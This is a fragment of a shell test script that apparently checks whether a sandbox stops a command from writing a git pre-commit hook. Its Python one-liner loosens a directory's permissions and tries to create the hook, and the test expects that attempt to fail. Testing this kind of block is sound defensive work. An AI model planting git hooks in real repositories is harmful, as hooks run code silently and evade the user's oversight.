	run python3 -c "import os; os.chmod('$WS/sub', 0o755); open('$WS/sub/.git/hooks/pre-commit', 'w')"
	chmod 755 "$WS/sub"
	[ "$status" -ne 0 ] || fail "a hook written"
	[ ! -e "$WS/sub/.git/hooks/pre-commit" ]
}
